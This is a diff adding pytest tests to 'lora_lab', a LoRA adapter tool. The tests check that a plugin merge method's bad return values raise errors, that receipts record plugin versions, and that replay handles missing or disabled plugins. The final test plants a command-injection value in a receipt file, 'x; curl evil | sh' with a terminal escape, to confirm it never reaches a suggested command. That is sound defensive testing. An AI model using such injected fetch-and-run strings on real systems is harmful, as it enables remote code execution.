@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import math
 import sys
 from collections.abc import Iterator
 from dataclasses import replace
@@ -17,8 +18,17 @@ from lora_lab import LoraLabError, Report, Session
 from lora_lab.domain.adapter import Adapter
 from lora_lab.domain.report import Column, Scalars, Table
 from lora_lab.errors import PluginError
-from lora_lab.extension.contracts import AnalysisContext, Exporter, Need, ReadOptions, Recognition
-from lora_lab.extension.registry import PluginRecord
+from lora_lab.extension.contracts import (
+    AnalysisContext,
+    Combination,
+    Exporter,
+    Factors,
+    MergeContext,
+    Need,
+    ReadOptions,
+    Recognition,
+)
+from lora_lab.extension.registry import PluginRecord, PluginState
 
 
 class Probe:
@@ -274,3 +284,83 @@ def test_inspect_sees_numbers_that_are_none(factor: str, value: float, tmp_path:
     (finding,) = Session().inspect(str(write_adapter(tmp_path / "a", tensors))).findings
     assert (finding.code, finding.module) == ("non_finite", module)
     assert factor in finding.message
+
+
+class Method:
+    """A method that does what a test asks for."""
+
+    id, title, summary, reference, parameters, is_low_rank = "probe", "Probe", "", "", (), True
+
+    def __init__(self, act: Any) -> None:
+        self.act = act
+
+    def combine(self, factors: list[Factors], strengths: list[float], context: MergeContext) -> Combination:
+        return self.act(factors, strengths, context)  # type: ignore[no-any-return]
+
+
+def first(factors: list[Factors], strengths: list[float], context: MergeContext) -> Combination:
+    """The first update as it is."""
+    norm = float((factors[0].scaling * factors[0].lora_B.double() @ factors[0].lora_A.double()).norm())
+    return Combination(factors[0], norm)
+
+
+def with_method(act: Any, version: str = "1.0") -> Session:
+    session = session_with("methods", Method(act))
+    session.registry.plugins[-1].distribution, session.registry.plugins[-1].version = "outsider", version
+    return session
+
+
+@pytest.mark.parametrize(
+    ("change", "told"),
+    [
+        (lambda found: None, "returned 'NoneType', expected a Combination"),
+        (lambda found: replace(found, norm=math.nan), "returned the norm 'nan'"),
+        (lambda found: replace(found, error=-1.0), "returned the error '-1.0'"),
+        (lambda found: replace(found, factors=turned(found.factors)), "expected \\(24, r\\) and \\(r, 16\\)"),
+        (
+            lambda found: replace(found, factors=replace(found.factors, is_transposed=True)),
+            "returned is_transposed True, expected False",
+        ),
+        (lambda found: 1 / 0, "failed: ZeroDivisionError"),
+    ],
+)
+def test_what_a_method_returns_is_factors_of_the_module(tmp_path: Path, change: Any, told: str) -> None:
+    adapter = str(write_adapter(tmp_path / "a"))
+    session = with_method(lambda *given: change(first(*given)))
+    with pytest.raises(PluginError, match=f"method 'probe' of the plugin 'outsider' .*{told}"):
+        session.combine([adapter], method="probe", output=tmp_path / "out")
+    assert sorted(path.name for path in tmp_path.iterdir()) == ["a"]
+
+
+def turned(factors: Factors) -> Factors:
+    return replace(factors, lora_A=factors.lora_B.T, lora_B=factors.lora_A.T)
+
+
+def test_a_receipt_names_the_plugin_and_a_replay_asks_for_it(tmp_path: Path) -> None:
+    adapter, out = str(write_adapter(tmp_path / "a")), tmp_path / "out"
+    with_method(first).combine([adapter], method="probe", output=out)
+    assert json.loads((out / "lora_lab_receipt.json").read_text())["plugins"] == {"outsider": "1.0"}
+    assert with_method(first).replay(out, output=tmp_path / "again").verdict is True
+    newer = with_method(first, "1.1").replay(out, output=tmp_path / "newer")
+    assert [finding.code for finding in newer.findings] == ["other_versions"]
+    assert "outsider '1.0' then, 1.1 now" in newer.findings[0].message
+    with pytest.raises(PluginError, match=r"the plugin 'outsider' 1\.0, which is not installed") as caught:
+        Session(cache=False, plugins=False).replay(out, output=tmp_path / "without")
+    assert "pip install outsider" in caught.value.hint
+    disabled = with_method(first)
+    disabled.registry.plugins[-1].state = PluginState.DISABLED
+    with pytest.raises(PluginError, match="is installed but disabled"):
+        disabled.replay(out, output=tmp_path / "without")
+    assert not (tmp_path / "without").exists()
+
+
+def test_a_receipt_cannot_put_words_into_a_command(tmp_path: Path) -> None:
+    adapter, out = str(write_adapter(tmp_path / "a")), tmp_path / "out"
+    with_method(first).combine([adapter], method="probe", output=out)
+    document = json.loads((out / "lora_lab_receipt.json").read_text())
+    document["plugins"] = {"x; curl evil | sh\x1b[2J": "1"}
+    (out / "lora_lab_receipt.json").write_text(json.dumps(document))
+    with pytest.raises(PluginError) as caught:
+        Session(cache=False, plugins=False).replay(out, output=tmp_path / "again")
+    assert caught.value.hint == ""
+    assert "\x1b" not in caught.value.message
